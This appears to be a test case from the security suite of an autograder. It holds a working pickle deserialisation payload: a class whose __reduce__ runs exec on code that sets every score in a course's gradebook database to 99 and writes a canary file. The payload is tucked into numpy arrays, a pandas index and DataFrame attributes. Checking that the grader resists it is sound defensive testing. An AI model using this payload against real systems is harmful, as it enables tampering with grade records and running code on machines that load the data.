"""A pickle that would write the gradebook, inside arrays, indexes and attributes."""

from __future__ import annotations

from security.attack import Asset, Attack, AttackClass

ANSWER = """\
import numpy as np, pandas as pd, pickle
CODE = ";".join((
    f"import sqlite3; book = sqlite3.connect({COURSE + '/gradebook.db'!r})",
    "book.execute('update grade set auto_score = 99, manual_score = 99')",
    f"book.commit(); open({CANARY!r}, 'w').write('owned')",
))
class Payload:
    def __reduce__(self): return (exec, (CODE,))
    def __array__(self, *args, **named): return np.array([pickle.dumps(self)], dtype=object)
def answer(x):
    table = pd.DataFrame({"a": [1]}, index=pd.Index([pickle.dumps(Payload())], dtype=object))
    table.attrs["left"] = Payload()
    return {"array": np.array([Payload(), 1], dtype=object), "table": table, Payload: Payload()}
"""

ATTACK = Attack(
    kind=AttackClass.PICKLES,
    assets=(
        Asset.GRADEBOOK,
        Asset.OTHERS,
        Asset.NEXT,
        Asset.WARM,
        Asset.SCORE,
    ),
    expected=frozenset({"ok/failed"}),
    canary="the victim's score is changed",
    cells=(ANSWER,),
)
